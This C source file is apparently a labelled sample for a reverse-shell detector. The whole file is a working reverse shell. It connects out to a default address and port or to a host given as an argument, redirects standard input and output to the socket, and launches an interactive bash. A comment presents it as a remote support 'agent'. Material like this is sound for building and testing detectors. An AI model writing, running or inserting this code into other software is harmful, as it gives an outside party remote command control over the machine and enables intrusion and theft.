// blind-expect: behavior.reverse-shell
// Remote support "agent" that dials a host given on the command line and attaches an interactive bash to it.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#define DEFAULT_HOST "198.51.100.14"
#define DEFAULT_PORT 9001

static int connect_back(const char *host, int port)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0)
        return -1;
    struct sockaddr_in peer;
    memset(&peer, 0, sizeof peer);
    peer.sin_family = AF_INET;
    peer.sin_port = htons((unsigned short)port);
    if (inet_pton(AF_INET, host, &peer.sin_addr) != 1 ||
        connect(fd, (struct sockaddr *)&peer, sizeof peer) != 0) {
        close(fd);
        return -1;
    }
    return fd;
}

static void attach_stdio(int fd)
{
    for (int i = 0; i < 3; i++)
        dup2(fd, i);
    if (fd > 2)
        close(fd);
}

int main(int argc, char **argv)
{
    const char *host = argc > 1 ? argv[1] : DEFAULT_HOST;
    int port = argc > 2 ? atoi(argv[2]) : DEFAULT_PORT;

    int fd = connect_back(host, port);
    if (fd < 0) {
        fprintf(stderr, "cannot reach %s:%d\n", host, port);
        return 1;
    }
    attach_stdio(fd);
    execl("/bin/bash", "bash", "-i", (char *)NULL);
    _exit(1);
}
